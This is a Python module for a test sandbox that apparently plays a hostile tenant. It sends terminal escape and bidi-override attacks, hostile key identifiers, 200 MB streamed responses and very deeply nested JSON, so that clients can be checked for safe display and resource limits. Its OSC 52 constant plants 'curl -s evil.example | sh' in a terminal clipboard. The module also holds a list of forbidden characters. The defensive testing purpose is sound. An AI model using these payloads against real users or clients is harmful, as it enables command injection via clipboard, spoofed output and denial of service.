"""A hostile tenant: the sandbox answering with what a tenant should never send, behind a switch.

`hostile` is a fault field (POST /_sandbox/faults, `SandboxHandle.set_faults(hostile=...)`,
`gtwizard sandbox --hostile MODE`), limited like every fault by `path_prefix`. Each mode is one
class of attack on whoever shows the answers to a person, or on the memory of whoever reads them:

- `text`: every string the tenant makes up carries terminal and bidi attacks (`HOSTILE_TEXT`: an
  OSC 52 clipboard write, CSI sequences, a C1 CSI, BEL, a carriage return, bidi overrides and
  isolates). Error messages get it appended; /v1/models and /manage/v1/published list one more
  name made of it; GET /manage/v1/keys lists two more keys a person might have made in the tenant
  app, one with such a name and one with such an id; chat answers end with it.
- `ids`: every key id in a key-management answer (mint, list, get, revoke) is `HOSTILE_ID`.
- `names`: every key name in a key-management answer is `HOSTILE_NAME`.
- `huge`: every answer is a JSON body of `HUGE_BYTES` (200 MB), streamed without Content-Length
  (a request that asks for `text/event-stream` gets 200 MB of chat events instead);
  `FaultHolder.hostile_sent` counts the bytes handed to the connection before the client left.
- `nested`: every answer is JSON nested `NESTED_DEPTH` deep (small enough for any size cap, far
  deeper than a decoder can follow).

The control routes (`/_sandbox/...`) are never hostile.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
from typing import Any

HOSTILE_MODES = ("text", "ids", "names", "huge", "nested")

# OSC 52 writes the terminal's clipboard: this one puts a shell command there.
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl -s evil.example | sh\n").decode() + "\x07"
HOSTILE_TEXT = (
    OSC52
    + "\x1b[2J\x1b[1;31m"  # CSI: clear the screen, then red
    + "\x9b6n"  # C1 CSI: ask the terminal for the cursor position
    + "\x07"  # BEL
    + "\r"  # back to the start of the line, to print over it
    + "\u202etxt.exe\u202c"  # right-to-left override, and its end
    + "\u2066iso\u2069"  # left-to-right isolate, and its end
    + "\u200f\u061c"  # right-to-left mark, Arabic letter mark
)
HOSTILE_NAME = "helpdesk" + HOSTILE_TEXT
HOSTILE_ID = "key_" + HOSTILE_TEXT
# Every character of HOSTILE_TEXT that must never reach a terminal, a file or a log as it is.
FORBIDDEN_CHARS = ("\x1b", "\x9b", "\x07", "\r", "\u202e", "\u202c", "\u2066", "\u2069", "\u200f")

HUGE_BYTES = 200 * 1024 * 1024
HUGE_CHUNK = 64 * 1024
NESTED_DEPTH = 20_000


def _human_key(key_id: str, name: str) -> dict[str, Any]:
    """A key record as a person might have made it in the tenant app."""
    return {
        "id": key_id,
        "name": name,
        "purpose": "inference",
        "scopes": ["inference:chat"],
        "agent_aliases": [],
        "raw_models": [],
        "datasets": [],
        "created_at": "2026-01-01T00:00:00Z",
        "expires_at": None,
        "revoked_at": None,
        "prefix": "gtak_abcd",
        "last_used_at": None,
    }


def _is_key_record(item: Any) -> bool:
    return isinstance(item, dict) and "id" in item and ("name" in item or "revoked" in item)


def _key_records(body: Any) -> list[dict[str, Any]]:
    """The key records in a key-management answer (one record, a revocation, or a list)."""
    if _is_key_record(body):
        return [body]
    if isinstance(body, dict) and isinstance(body.get("data"), list):
        return [item for item in body["data"] if _is_key_record(item)]
    return []


def rewrite(mode: str, method: str, path: str, status: int, body: Any) -> Any:
    """The JSON `body` of one answer as the hostile tenant sends it instead."""
    if isinstance(body, dict) and isinstance(body.get("error"), dict) and mode == "text":
        error = body["error"]
        error["message"] = f"{error.get('message', '')} {HOSTILE_TEXT}"
        return body
    managed = "/manage/v1/keys" in path
    if mode in ("ids", "names") and managed:
        for record in _key_records(body):
            if mode == "ids":
                record["id"] = HOSTILE_ID
            elif "name" in record:
                record["name"] = HOSTILE_NAME
        return body
    if mode != "text" or status >= 300:
        return body
    data = body.get("data") if isinstance(body, dict) else None
    if path.endswith("/models") and method == "GET" and isinstance(data, list):
        data.append({"id": HOSTILE_NAME, "object": "model", "owned_by": "gt"})
    elif path.endswith("/manage/v1/published") and isinstance(data, list):
        data.append({"name": HOSTILE_NAME, "kind": "agent_alias"})
    elif path.endswith("/manage/v1/keys") and method == "GET" and isinstance(data, list):
        data.append(_human_key("key_made_by_a_person", "quarterly report " + HOSTILE_TEXT))
        data.append(_human_key(HOSTILE_ID, "made by a person"))
    elif isinstance(body, dict) and isinstance(body.get("choices"), list):
        for choice in body["choices"]:
            message = choice.get("message") if isinstance(choice, dict) else None
            if isinstance(message, dict) and isinstance(message.get("content"), str):
                message["content"] += HOSTILE_TEXT
    return body


def _json_headers(
    length: int | None, ctype: bytes = b"application/json"
) -> list[tuple[bytes, bytes]]:
    headers = [(b"content-type", ctype)]
    if length is not None:
        headers.append((b"content-length", str(length).encode()))
    return headers


async def _rewritten(mode: str, app: Any, scope: dict[str, Any], receive: Any, send: Any) -> None:
    """Run the app, hold its answer, and send the rewritten JSON (other answers pass through)."""
    start: dict[str, Any] = {}
    parts: list[bytes] = []
    passing = False

    async def holding_send(message: dict[str, Any]) -> None:
        nonlocal passing
        if message["type"] == "http.response.start":
            start.update(message)
            ctype = dict(message.get("headers", [])).get(b"content-type", b"")
            passing = not ctype.startswith(b"application/json")
            if passing:
                await send(message)
            return
        if passing:
            await send(message)
            return
        parts.append(message.get("body", b""))
        if message.get("more_body", False):
            return
        try:
            body = json.loads(b"".join(parts) or b"null")
        except ValueError:
            data = b"".join(parts)
        else:
            changed = rewrite(mode, scope["method"], scope["path"], start["status"], body)
            data = json.dumps(changed, ensure_ascii=False).encode("utf-8")
        headers = [(k, v) for k, v in start.get("headers", []) if k != b"content-length"]
        headers.append((b"content-length", str(len(data)).encode()))
        await send({**start, "headers": headers})
        await send({"type": "http.response.body", "body": data})

    await app(scope, receive, holding_send)


def _huge_parts(scope: dict[str, Any]) -> tuple[bytes, bytes, bytes, bytes]:
    """(content type, head, repeated item, tail) of the endless answer to this request."""
    accept = dict(scope.get("headers", [])).get(b"accept", b"")
    if b"text/event-stream" in accept:
        event = b'data: {"choices": [{"index": 0, "delta": {"content": "more "}}]}\n\n'
        return b"text/event-stream", b"", event, b"data: [DONE]\n\n"
    item = b'{"id": "model-name-that-goes-on-and-on", "object": "model"}, '
    return b"application/json", b'{"object": "list", "data": [', item, b'{"id": "end"}]}'


async def _huge(scope: dict[str, Any], send: Any, receive: Any, holder: Any) -> None:
    """200 MB of one JSON list (or SSE), in chunks, until it is all sent or the client has gone."""
    gone = asyncio.Event()

    async def watch() -> None:
        while (await receive())["type"] != "http.disconnect":
            pass
        gone.set()

    watcher = asyncio.create_task(watch())
    try:
        ctype, head, item, tail = _huge_parts(scope)
        start = {
            "type": "http.response.start",
            "status": 200,
            "headers": _json_headers(None, ctype),
        }
        await send(start)
        chunk = item * (HUGE_CHUNK // len(item))
        sent = 0
        await send({"type": "http.response.body", "body": head, "more_body": True})
        while sent < HUGE_BYTES and not gone.is_set():
            await send({"type": "http.response.body", "body": chunk, "more_body": True})
            sent += len(chunk)
            if not gone.is_set():
                holder.hostile_sent += len(chunk)
            await asyncio.sleep(0)  # let the watcher see a disconnect
        await send({"type": "http.response.body", "body": tail})
    finally:
        watcher.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await watcher


async def _nested(send: Any) -> None:
    inner = b"[" * NESTED_DEPTH + b"]" * NESTED_DEPTH
    body = b'{"object": "list", "data": ' + inner + b"}"
    await send({"type": "http.response.start", "status": 200, "headers": _json_headers(len(body))})
    await send({"type": "http.response.body", "body": body})


async def hostile(
    mode: str, app: Any, scope: dict[str, Any], receive: Any, send: Any, holder: Any
) -> None:
    """Answer one request the way `mode` says (see the module's note)."""
    if mode == "huge":
        await _huge(scope, send, receive, holder)
    elif mode == "nested":
        await _nested(send)
    else:
        await _rewritten(mode, app, scope, receive, send)
